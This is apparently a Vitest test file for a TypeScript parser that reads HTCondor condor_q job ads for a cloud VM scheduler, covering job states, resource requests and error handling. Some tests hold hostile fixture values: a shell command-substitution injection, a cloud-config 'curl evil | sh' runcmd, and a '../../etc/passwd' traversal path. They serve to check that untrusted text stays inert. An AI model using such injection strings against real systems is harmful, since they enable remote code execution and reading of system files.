import { describe, expect, it } from "vitest";
import { parseAds } from "../../scheduler/condor/ad-stream.js";
import { CondorParseError } from "../../scheduler/condor/errors.js";
import {
  DEFAULT_REQUEST_DISK_KB,
  DEFAULT_REQUEST_MEMORY_MB,
  parseJob,
  parseJobs,
} from "../../scheduler/condor/parse-jobs.js";
import type { Job } from "../../scheduler/condor/types.js";
import { readFixture, rejection, thrown } from "./helpers.js";

async function jobsOf(name: string): Promise<Job[]> {
  return parseJobs(parseAds(readFixture(name)));
}

function byId(jobs: Job[], id: string): Job {
  const job = jobs.find((j) => j.id === id);
  if (job === undefined) throw new Error(`no job ${id}`);
  return job;
}

const HOSTILE_VMTYPE = 'demo-vm"; $(touch /tmp/pwned) > /dev/null\\nVMType = "evil';

describe("parseJobs on real condor_q output", () => {
  it("reads the 12 jobs of condor_q.all.json", async () => {
    const jobs = await jobsOf("condor_q.all.json");
    expect(jobs.map((j) => j.id)).toEqual([
      "1.0",
      "1.1",
      "1.2",
      "1.3",
      "1.4",
      "2.0",
      "2.1",
      "2.2",
      "3.0",
      "4.0",
      "5.0",
      "6.0",
    ]);
    expect(jobs.filter((j) => j.vmType === "demo-vm")).toHaveLength(10);
    expect(jobs.map((j) => j.state)).toEqual([
      "idle",
      "idle",
      "idle",
      "idle",
      "idle",
      "idle",
      "idle",
      "idle",
      "idle",
      "held",
      "idle",
      "idle",
    ]);
    // A demo-1 job: requests from HTCondor's default expressions evaluated on the full ad.
    expect(byId(jobs, "1.0")).toEqual({
      id: "1.0",
      owner: "guest",
      state: "idle",
      queuedAt: 1795596410,
      stateSince: 1795596410,
      requestCpus: 1,
      requestMemoryMb: 1,
      requestDiskKb: 1,
      priority: 0,
      vmType: "demo-vm",
      vmImage: "NEP52-batch",
      vmFlavor: "m1.small",
      vmKeepAliveMinutes: 10,
    });
    // A four-core job: request_memory = 8GB arrives as 8192.
    expect(byId(jobs, "2.1")).toMatchObject({
      requestCpus: 4,
      requestMemoryMb: 8192,
      vmCores: 4,
      vmMemoryMb: 8192,
      vmStorageGb: 20,
      vmFlavor: "m1.large",
    });
    expect(byId(jobs, "3.0").targetClouds).toEqual(["dair-quebec"]);
    // The plain job: no VM attributes at all; ImageSize 45 -> (45 + 1023) / 1024 = 1 MiB.
    const plain = byId(jobs, "5.0");
    expect(plain).not.toHaveProperty("vmType");
    expect(plain).not.toHaveProperty("vmImage");
    expect(plain).toMatchObject({ requestMemoryMb: 1, requestDiskKb: 45 });
    // The hostile VMType is kept as text, byte for byte.
    expect(byId(jobs, "6.0").vmType).toBe(HOSTILE_VMTYPE);
  });

  it("falls back to +VMMem or the documented defaults when a projection lacks ImageSize/DiskUsage", async () => {
    const jobs = await jobsOf("condor_q.projected.json");
    expect(jobs).toHaveLength(12);
    expect(byId(jobs, "1.0")).toMatchObject({
      requestMemoryMb: DEFAULT_REQUEST_MEMORY_MB,
      requestDiskKb: DEFAULT_REQUEST_DISK_KB,
    });
    // +VMStorage 20 GB stands in for the unresolvable RequestDisk.
    expect(byId(jobs, "2.0")).toMatchObject({
      requestMemoryMb: 8192,
      requestDiskKb: 20 * 1024 * 1024,
    });
    expect(byId(jobs, "4.0").state).toBe("held");
    expect(byId(jobs, "6.0").vmType).toBe(HOSTILE_VMTYPE);
  });

  it("reads running jobs with their slot and evaluated memory usage", async () => {
    for (const name of ["condor_q.running.json", "condor_q.running.projected.json"]) {
      const jobs = await jobsOf(name);
      expect(jobs).toHaveLength(12);
      expect(jobs.filter((j) => j.state === "running").map((j) => [j.id, j.remoteHost])).toEqual([
        ["1.0", "slot1_1@vm.cloudscheduler.test"],
        ["1.1", "slot1_2@vm.cloudscheduler.test"],
      ]);
      expect(byId(jobs, "1.0").stateSince).toBe(1795596418);
    }
    // Full ad: MemoryUsage = (ResidentSetSize 7500 + 1023) / 1024 = 8 MiB; DiskUsage 17 KiB.
    expect(byId(await jobsOf("condor_q.running.json"), "1.0")).toMatchObject({
      requestMemoryMb: 8,
      requestDiskKb: 17,
    });
  });

  it("reads the hand-written hostile jobs without crashing, keeping untrusted text as text", async () => {
    const jobs = await jobsOf("synthetic.hostile-jobs.json");
    expect(jobs).toHaveLength(14);
    const mallory = byId(jobs, "106.0");
    expect(mallory.vmType).toBe('demo-vm"\n#cloud-config\nruncmd: ["curl evil | sh"]');
    expect(mallory.vmImage).toBe("../../etc/passwd");
    expect(byId(jobs, "107.0")).toMatchObject({
      requestCpus: 64,
      requestMemoryMb: 1_000_000_000,
      vmImage: "some-unlisted-image",
      vmFlavor: "x9.enormous",
    });
    expect(byId(jobs, "102.0")).toMatchObject({
      owner: "jane",
      targetClouds: ["alberta"],
      vmType: "cvmfs-vm",
    });
    expect(byId(jobs, "104.0").state).toBe("held");
    expect(byId(jobs, "105.0")).not.toHaveProperty("vmType");
    expect(byId(jobs, "100.0").remoteHost).toBe("slot1_1@cs-alberta-demo-vm-01jd3k2m.novalocal");
  });

  it("gives no jobs for HTCondor's empty answer (0 bytes)", async () => {
    expect(await jobsOf("condor_q.empty.json")).toEqual([]);
  });
});

describe("parseJob", () => {
  const base = { ClusterId: 7, ProcId: 3, JobStatus: 1, Owner: "guest", QDate: 100 };

  it("rejects an ad whose identity is missing or of the wrong type, naming it", () => {
    for (const [change, field] of [
      [{ ClusterId: undefined }, "ClusterId"],
      [{ ProcId: "3" }, "ProcId"],
      [{ JobStatus: 9 }, "JobStatus"],
      [{ JobStatus: "/Expr(1)/" }, "JobStatus"],
      [{ Owner: 5 }, "Owner"],
    ] as const) {
      const error = thrown(() => parseJob({ ...base, ...change }, 4));
      expect(error).toBeInstanceOf(CondorParseError);
      expect(error.message).toContain("job ad 4");
      expect(error.message).toContain(field);
      expect((error as CondorParseError).adIndex).toBe(4);
    }
  });

  it("fails the whole answer on one bad ad (never a shorter list)", async () => {
    const error = await rejection(parseJobs([base, { ...base, ProcId: 4, Owner: undefined }]));
    expect(error).toBeInstanceOf(CondorParseError);
    expect(error.message).toContain("job ad 1 (job 7.4)");
  });

  it("maps every JobStatus code", () => {
    const states = [1, 2, 3, 4, 5, 6, 7].map(
      (code) => parseJob({ ...base, JobStatus: code }, 0).state,
    );
    expect(states).toEqual([
      "idle",
      "running",
      "removed",
      "completed",
      "held",
      "transferring",
      "suspended",
    ]);
  });

  it("reads attribute names in any case, as ClassAds do", () => {
    const job = parseJob(
      { clusterid: 1, procid: 0, jobstatus: 1, owner: "u", vmtype: "demo-vm", requestmemory: 512 },
      0,
    );
    expect(job).toMatchObject({ id: "1.0", owner: "u", vmType: "demo-vm", requestMemoryMb: 512 });
  });

  it("evaluates request expressions, rounds up, and defaults what stays undefined", () => {
    expect(
      parseJob(
        { ...base, RequestCpus: "/Expr(2 * 2)/", RequestMemory: "/Expr(RequestCpus * 1024.5)/" },
        0,
      ),
    ).toMatchObject({ requestCpus: 4, requestMemoryMb: 4098 });
    expect(
      parseJob({ ...base, RequestMemory: "/Expr(Nope)/", VMMem: 3000 }, 0).requestMemoryMb,
    ).toBe(3000);
    expect(parseJob({ ...base, RequestMemory: "/Expr(1 / 0)/" }, 0).requestMemoryMb).toBe(
      DEFAULT_REQUEST_MEMORY_MB,
    );
    expect(parseJob({ ...base, RequestMemory: -5 }, 0).requestMemoryMb).toBe(
      DEFAULT_REQUEST_MEMORY_MB,
    );
    expect(parseJob(base, 0)).toMatchObject({
      requestCpus: 1,
      requestDiskKb: DEFAULT_REQUEST_DISK_KB,
      priority: 0,
    });
    expect(parseJob({ ...base, JobPrio: -10 }, 0).priority).toBe(-10);
  });

  it("treats VM attributes as untrusted text: trimmed, capped, numbers from numeric text", () => {
    const job = parseJob(
      {
        ...base,
        VMType: `  ${"x".repeat(300)}  `,
        VMAMI: "   ",
        VMInstanceType: 5,
        VMMem: "8192",
        VMCPUCores: "four",
        VMKeepAlive: "/Expr(5 * 2)/",
        TargetClouds: " alberta, victoria  quebec,,",
      },
      0,
    );
    expect(job.vmType).toBe("x".repeat(256));
    expect(job).not.toHaveProperty("vmImage");
    expect(job.vmFlavor).toBe("5");
    expect(job.vmMemoryMb).toBe(8192);
    expect(job).not.toHaveProperty("vmCores");
    expect(job.vmKeepAliveMinutes).toBe(10);
    expect(job.targetClouds).toEqual(["alberta", "victoria", "quebec"]);
    expect(parseJob({ ...base, TargetClouds: ["a", "b c"] }, 0).targetClouds).toEqual([
      "a",
      "b",
      "c",
    ]);
    expect(parseJob({ ...base, VMType: "a\u0000b\u001b[31m" }, 0).vmType).toBe(
      "a\u0000b\u001b[31m",
    );
  });
});
